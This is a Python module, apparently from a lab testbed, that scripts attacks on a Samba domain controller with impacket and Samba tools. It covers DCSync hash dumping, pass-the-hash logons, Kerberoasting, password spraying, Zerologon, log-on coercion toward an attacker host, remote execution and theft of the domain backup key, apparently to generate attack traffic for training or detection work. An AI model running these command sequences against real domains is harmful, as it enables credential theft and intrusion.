"""Moving through a domain with what was found on one of its hosts: its controller asked, copied and tricked.

Most of it is impacket, against a Samba that is no Windows: programs that are to be started elsewhere
(psexec, smbexec, atexec, wmiexec, dcomexec) get as far as the service, the task or the object that
Samba has not; Zerologon, AS-REP roasting and the calls that coerce a log-on are refused; replication,
tickets to break, spraying, remote registry and everything that only asks go through.
"""

import re

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, one
from training.testbed.attackers.remote import EXAMPLES
from training.testbed.enclosure import SOURCE_TREE
from training.testbed.people.domain import PORT
from training.testbed.services.directory import FIRST, LAST, Account, weak
from training.testbed.services.domain import ADMIN, SHORT, Domain, known
from training.testbed.services.names import ZONE

OWN = str(SOURCE_TREE / "training" / "testbed" / "attackers" / "remote.py")
HASH = re.compile(rb"^([\w.$-]+?):\d+:[0-9a-f]{32}:([0-9a-f]{32}):::", re.MULTILINE)
KEYS = (
    "HKLM\\SOFTWARE",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services",
    "HKU",
    "HKLM\\SYSTEM\\CurrentControlSet\\Control",
)
EXECUTERS = ("psexec", "smbexec", "atexec", "wmiexec", "dcomexec")
ENUMERATIONS = (
    *("samrdump", "lookupsid", "rpcdump", "rpcmap", "netview", "services", "reg", "policies"),
    *("rpcclient", "ldapdomaindump", "ldapsearch", "net"),
)


def example(name: str) -> tuple[str, str]:
    """Return the words that start one of impacket's programs."""
    return "python3", f"{EXAMPLES}/{name}.py"


def target(domain: Domain, user: str = ADMIN, password: str = "") -> str:
    """Return a controller with somebody's access to it, as impacket's programs want it."""
    return f"{ZONE}/{user}:{password or domain.admin_password}@{domain.v4}"


def _stolen(stage: Stage, domain: Domain) -> Account:
    """Return an account of the domain whose password was found."""
    return stage.rng.choice([*domain.of("person"), *domain.of("weak")])


def _rest(stage: Stage, median: float = 0.5) -> None:
    stage.pause(min(6.0, float(stage.settings["pace_s"]) * median * stage.rng.lognormvariate(0.0, 0.8)))


def synchronise(stage: Stage) -> None:
    """Have the controller hand out keys as to another controller (DCSync); then be somebody by their hash."""
    rng, domain = stage.rng, known(stage.world)
    what = str(one(stage, "what") or rng.choice(("krbtgt", "few", "all", "ntlm", "local")))
    access = target(domain)
    if what in ("krbtgt", "few"):
        names = ["krbtgt", *(each.name for each in rng.sample(domain.accounts, 3))][: 1 if what == "krbtgt" else 4]
        asked = [[OWN, "dcsync", "-just-dc-user", f"{SHORT}/{name}", access] for name in [*names, ADMIN]]
    elif what == "local":
        # Asks for the registry's hives, which Samba has not: the first half of what happens elsewhere.
        asked = [[f"{EXAMPLES}/secretsdump.py", access]]
    else:
        asked = [[OWN, "dcsync", "-just-dc-ntlm" if what == "ntlm" else "-just-dc", access]]
    found: dict[str, str] = {}
    for words in asked:
        done = stage.run("python3", *words, ok=None, limit_s=40.0)
        found |= {name.decode(): value.decode() for name, value in HASH.findall(done.output)}
        _rest(stage)
    if found and rng.random() < float(stage.settings["follow"]):
        name = ADMIN if ADMIN in found else rng.choice(sorted(found))
        _with_hash(stage, domain, name, found[name])


def _with_hash(stage: Stage, domain: Domain, name: str, value: str) -> None:
    """Log on with nothing but a hash: shares, users, services."""
    rng = stage.rng
    hashed = ["-U", f"{SHORT}\\{name}%{value}", "--pw-nt-hash", "--use-kerberos=off", *PORT]
    ways = [
        ["smbclient", f"//{domain.dc}/team", *hashed, "-c", "ls;recurse;ls"],
        ["smbclient", f"//{domain.dc}/ADMIN$", *hashed, "-c", "ls"],
        ["smbclient", "-g", "-L", f"//{domain.dc}", *hashed],
        ["rpcclient", domain.dc, *hashed, "-c", "enumdomusers;enumdomgroups;netshareenumall"],
        [*example("lookupsid"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}", "1160"],
        [*example("services"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}", "list"],
        [*example("smbexec"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}"],
    ]
    for words in rng.sample(ways, rng.randint(1, 4)):
        stage.run(*words, ok=None, limit_s=20.0)
        _rest(stage)


def by_hash(stage: Stage) -> None:
    """Fetch the hash of one account and log on with it."""
    rng, domain = stage.rng, known(stage.world)
    name = rng.choice((ADMIN, _stolen(stage, domain).name))
    words = ["python3", OWN, "dcsync", "-just-dc-user", f"{SHORT}/{name}", "-just-dc-ntlm", target(domain)]
    found = dict(HASH.findall(stage.run(*words, ok=None, limit_s=20.0).output))
    value = found.get(name.encode(), b"0" * 32).decode()
    for _ in range(rng.randint(1, 3)):
        _rest(stage, 1.0)
        _with_hash(stage, domain, name, value)


def enumerate_domain(stage: Stage) -> None:
    """Ask the controller for everything it tells: accounts, numbers, endpoints, shares, services, registry."""
    rng, domain = stage.rng, known(stage.world)
    who = _stolen(stage, domain)
    tool = str(one(stage, "tool"))
    names = [tool] if tool else rng.sample(ENUMERATIONS, rng.randint(1, 3))
    for name in names:
        for words in _questions(stage, domain, name, who):
            stage.run(*words, ok=None, limit_s=25.0)
            _rest(stage)


def _questions(stage: Stage, domain: Domain, name: str, who: Account) -> list[list[str]]:
    rng = stage.rng
    mine, admins = target(domain, who.name, who.password), target(domain)
    login = f"{SHORT}\\{who.name}%{who.password}"
    if name == "rpcclient":
        asked = ["enumdomusers", "enumdomgroups", "querydominfo", "netshareenumall", "lsaquery", "getdompwinfo"]
        asked += ["lookupnames krbtgt Administrator", "querygroupmem 0x200", "queryuser 0x1f4", "enumprivs", "srvinfo"]
        chosen = [";".join(rng.sample(asked, rng.randint(2, 8))) for _ in range(rng.randint(1, 3))]
        return [["rpcclient", domain.dc, *PORT, "-U", login, "-c", each] for each in chosen]
    if name == "ldapdomaindump":
        return [
            ["ldapdomaindump", "-at", "SIMPLE", "-u", f"{SHORT}\\{who.name}", "-p", who.password, f"ldap://{domain.dc}"]
        ]
    if name == "ldapsearch":
        bound = [
            "ldapsearch",
            "-LLL",
            "-x",
            "-D",
            f"{who.name}@{ZONE}",
            "-w",
            who.password,
            "-H",
            f"ldap://{domain.dc}",
        ]
        wanted: tuple[str, ...] = ("(servicePrincipalName=*)", "(userAccountControl:1.2.840.113556.1.4.803:=4194304)")
        wanted += ("(adminCount=1)", "(objectClass=*)", "(objectClass=trustedDomain)", "(objectClass=computer)")
        base = ",".join(f"DC={part}" for part in ZONE.split("."))
        return [[*bound, "-b", base, "-E", "pr=500/noprompt", each] for each in rng.sample(wanted, rng.randint(1, 4))]
    if name == "net":
        asked = ["user", "group", "share", "service list", "group members Domain\\ Admins"]
        return [
            ["net", "rpc", *each.replace("\\ ", "_").split(), "-S", domain.dc, *PORT, "-U", login]
            for each in rng.sample(asked, 2)
        ]
    if name == "rpcmap":
        # All known interfaces one by one are hundreds of connections.
        ways: tuple[list[str], ...] = ([], ["-brute-opnums", "-opnum-max", "12"], ["-brute-uuids"])
        way = rng.choices(ways, (5, 4, 1))[0]
        return [[*example(name), f"ncacn_ip_tcp:{domain.v4}[135]", *way, "-auth-level", "1"]]
    if name == "netview":
        return [[*example(name), mine.partition("@")[0], "-target", domain.v4, "-noloop"]]
    last = {"lookupsid": [str(rng.choice((800, 1160, 2000)))], "services": ["list"]}.get(name, [])
    if name == "reg":
        last = ["query", "-keyName", rng.choice(KEYS), *rng.choice(([], ["-s"]))]
    name = {"policies": "Get-GPPPassword"}.get(name, name)
    return [[*example(name), admins if name in ("services", "reg") else mine, *last]]


def execute(stage: Stage) -> None:
    """Try to have a program started on the controller: as a service, a task, over WMI or DCOM."""
    rng, domain = stage.rng, known(stage.world)
    tool = str(one(stage, "tool"))
    for name in [tool] if tool else rng.sample(EXECUTERS, rng.randint(1, 3)):
        words = [] if name == "smbexec" else ["whoami"]
        if name == "psexec" and rng.random() < 0.5:
            # A program of one's own instead of the one that comes along.
            own = stage.folder / "own.exe"
            own.write_bytes(rng.randbytes(int(60_000 * rng.lognormvariate(0.0, 0.9))))
            words = ["-c", str(own)]
        stage.run(*example(name), target(domain), *words, ok=None, limit_s=20.0)
        _rest(stage, 1.0)
    if rng.random() < 0.4:
        service = f"{rng.getrandbits(32):x}"
        create = ["create", "-name", service, "-display", service, "-path", "c:\\windows\\temp\\x.exe"]
        for way in (create, ["start", "-name", service], ["status", "-name", "Spooler"]):
            stage.run(*example("services"), target(domain), *way, ok=None, limit_s=20.0)


def roast(stage: Stage) -> None:
    """Collect tickets and replies that can be broken at home: of accounts without pre-authentication, of services."""
    rng, domain = stage.rng, known(stage.world)
    who = _stolen(stage, domain)
    listed = stage.folder / "users"
    everybody = [each.name for each in domain.accounts if each.kind != "machine"]
    listed.write_text("\n".join(rng.sample(everybody, rng.randint(8, len(everybody)))) + "\n")
    way = str(one(stage, "way") or rng.choice(("replies", "tickets", "both")))
    if way in ("replies", "both"):
        stage.run(
            *example("GetNPUsers"), f"{ZONE}/", "-usersfile", str(listed), "-no-pass", "-dc-ip", domain.v4, ok=None
        )
        _rest(stage)
    if way in ("tickets", "both"):
        for words in _questions(stage, domain, "ldapsearch", who)[:1]:
            stage.run(*words, ok=None)
        env = {**domain.clients_config(rng.choice(("tcp", "udp"))), "KRB5CCNAME": f"FILE:{stage.folder}/tickets"}
        stage.run("kinit", who.name, stdin=f"{who.password}\n".encode(), env=env, ok=None)
        services = [each.principal for each in domain.of("service")]
        # The weakest cipher that the realm still gives out.
        stage.run("kvno", "-e", "arcfour-hmac", *rng.sample(services, len(services)), env=env, ok=None)
        if rng.random() < 0.5:
            stage.run(*example("GetUserSPNs"), target(domain).partition("@")[0], "-dc-ip", domain.v4, ok=None)


def spray(stage: Stage) -> None:
    """Try a password that somebody will have on account after account, over Kerberos."""
    rng, domain = stage.rng, known(stage.world)
    accounts = [each.name for each in domain.accounts if each.kind in ("person", "weak", "open")]
    accounts = rng.sample(accounts, min(len(accounts), about(stage, "accounts")))
    words = [weak(rng) for _ in range(int(stage.settings["passwords"]))]
    pause_s = float(stage.settings["pause_s"])
    listed = stage.folder / "users"
    listed.write_text("\n".join(accounts) + "\n")
    tool = str(one(stage, "tool") or rng.choice(("impacket", "kinit", "kinit")))
    if tool == "impacket":
        stage.run("python3", OWN, "spray", domain.v4, ZONE, str(listed), str(pause_s), *words, ok=None, limit_s=100.0)
        return
    env = {**domain.clients_config(rng.choice(("udp", "tcp"))), "KRB5CCNAME": f"FILE:{stage.folder}/tickets"}
    script = stage.folder / "spray.sh"
    nap = f"sleep {pause_s:.2f};" if pause_s else ""
    loop = f"for p in {' '.join(words)}; do for u in $(cat {listed}); do echo $p | kinit $u; {nap} done; done"
    script.write_text(loop + "\n")
    stage.run("sh", str(script), env=env, ok=None, limit_s=100.0)


def guess_names(stage: Stage) -> None:
    """Find out which accounts there are: the controller's Kerberos answers differently for those that are none."""
    rng, domain = stage.rng, known(stage.world)
    names = rng.sample(
        [f"{first}.{last}" for first in FIRST for last in LAST], min(len(FIRST) * len(LAST), about(stage, "names"))
    )
    listed = stage.folder / "names"
    listed.write_text("\n".join(names) + "\n")
    pause = f"{float(stage.settings['pause_s']):.2f}"
    stage.run("python3", OWN, "names", domain.v4, ZONE, str(listed), pause, ok=None, limit_s=60.0)


def zero(stage: Stage) -> None:
    """Try Zerologon: authenticate as the controller with zeros, hundreds of times; this one is repaired."""
    v4 = known(stage.world).v4
    stage.run("python3", OWN, "zerologon", v4, "DC", str(about(stage, "tries", 0.7)), ok=None, limit_s=60.0)


def coerce(stage: Stage) -> None:
    """Try to make the controller log on at a host of ours, by its printer and its file encryption service."""
    rng, domain = stage.rng, known(stage.world)
    who = _stolen(stage, domain)
    for _ in range(rng.randint(1, 3)):
        words = [domain.v4, f"{who.name}:{who.password}", ZONE, stage.host.v4]
        stage.run("python3", OWN, "coerce", *words, ok=None, limit_s=20.0)
        _rest(stage, 1.0)


def fetch_key(stage: Stage) -> None:
    """Fetch the domain's backup key, which opens what all its users have protected."""
    domain = known(stage.world)
    words = [domain.v4, f"{ADMIN}:{domain.admin_password}", ZONE]
    stage.run("python3", OWN, "backupkey", *words, ok=None, limit_s=20.0)


def add_machine(stage: Stage) -> None:
    """Make a machine account of one's own and use it; Samba lets administrators do so, and no one else."""
    rng, domain = stage.rng, known(stage.world)
    who = Account(ADMIN, domain.admin_password, "person") if rng.random() < 0.7 else _stolen(stage, domain)
    name, password = f"DESKTOP-{rng.getrandbits(32):08X}", f"Pw-{rng.getrandbits(48):x}"
    made = ["-computer-name", f"{name}$", "-computer-pass", password, "-method", "SAMR", "-dc-ip", domain.v4]
    stage.run(*example("addcomputer"), f"{ZONE}/{who.name}:{who.password}", *made, ok=None)
    _rest(stage)
    ways = [
        [*example("getTGT"), f"{ZONE}/{name}$:{password}", "-dc-ip", domain.v4],
        [*example("lookupsid"), target(domain, f"{name}$", password), "1160"],
        ["smbclient", f"//{domain.dc}/sysvol", *PORT, "-U", f"{SHORT}\\{name}$%{password}", "-c", "recurse;ls"],
    ]
    for words in rng.sample(ways, rng.randint(1, 3)):
        stage.run(*words, ok=None, limit_s=20.0)


IMPACKET = {f"{EXAMPLES}/{name}.py": "python3-impacket" for name in ("secretsdump", "lookupsid")}
SMB = {"smbclient": "smbclient", "rpcclient": "smbclient", "net": "samba-common-bin"}
KERBEROS = {"kinit": "krb5-user", "kvno": "krb5-user"}
LDAP = {"ldapsearch": "ldap-utils", "ldapdomaindump": "python3-ldapdomaindump"}
NEEDS = {"python3": "python3-minimal", **IMPACKET, **SMB}
SERVED = ("domain",)
PACE = {"pace_s": 1.0}
KINDS = (
    Kind(
        "domain-replication",
        "lateral",
        synchronise,
        NEEDS,
        SERVED,
        8.0,
        110.0,
        {**PACE, "what": "", "follow": 0.5},
    ),
    Kind("pass-the-hash", "lateral", by_hash, NEEDS, SERVED, 8.0, 110.0, PACE),
    Kind("domain-enum", "lateral", enumerate_domain, {**NEEDS, **LDAP}, SERVED, 8.0, 110.0, {**PACE, "tool": ""}),
    Kind("remote-execution", "lateral", execute, NEEDS, SERVED, 6.0, 110.0, {**PACE, "tool": ""}),
    Kind("roasting", "lateral", roast, {**NEEDS, **KERBEROS, **LDAP}, SERVED, 5.0, 90.0, {**PACE, "way": ""}),
    Kind("zerologon", "lateral", zero, NEEDS, SERVED, 8.0, 70.0, {"tries": 60}),
    Kind("coercion", "lateral", coerce, NEEDS, SERVED, 5.0, 70.0, PACE),
    Kind("backup-key", "lateral", fetch_key, NEEDS, SERVED, 2.0, 30.0),
    Kind("machine-adding", "lateral", add_machine, NEEDS, SERVED, 5.0, 90.0, PACE),
    Kind("account-search", "lateral", guess_names, NEEDS, SERVED, 6.0, 70.0, {"names": 60, "pause_s": 0.0}),
    Kind(
        "kerberos-spray",
        "bruteforce",
        spray,
        {**NEEDS, **KERBEROS},
        SERVED,
        8.0,
        115.0,
        {"tool": "", "accounts": 30, "passwords": 1, "pause_s": 0.0},
    ),
)
